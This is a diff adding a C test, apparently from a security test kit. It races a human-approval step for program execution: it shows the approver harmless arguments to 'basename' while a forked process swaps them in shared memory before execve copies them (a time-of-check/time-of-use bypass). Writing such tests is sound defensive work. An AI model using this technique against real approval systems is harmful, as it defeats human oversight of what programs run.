@@ -1,0 +1,36 @@
+// tries: to have a person approve a program with harmless arguments, and to change them in shared memory meanwhile
+// works: who is asked sees the arguments as they were then; execve(2) copies them again when it starts anew
+// see: CWE-367; execve(2); what tracers are told of arguments (ptrace(2), seccomp_unotify(2) "Caveats")
+// goal: run
+// first: . "$KIT/attacks/person.sh"; meanwhile approve_all '"arguments":["basename","harmless--------"]'
+#include "../kit.h"
+
+#define LENGTH 16
+
+int main(void)
+{
+	char *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0), wanted[LENGTH + 1] = "";
+	char *const words[] = { "basename", shared, NULL };
+	time_t end = time(NULL) + 8;
+	pid_t flips;
+
+	for (int at = 0; at < LENGTH; at++)
+		wanted[at] = told("MARK")[LENGTH - 1 - at];
+	memcpy(shared, "harmless--------", LENGTH + 1);
+	flips = MUST(fork());
+	for (int turn = 0; !flips; turn++) {
+		usleep(turn % 2 ? 3000 : 40000);
+		memcpy(shared, turn % 2 ? "harmless--------" : wanted, LENGTH);
+	}
+	while (time(NULL) < end) {
+		pid_t child = MUST(fork());
+
+		if (!child) {
+			execv("/usr/bin/basename", words);
+			_exit(127);
+		}
+		waitpid(child, NULL, 0);
+	}
+	kill(flips, SIGKILL);
+	return 0;
+}
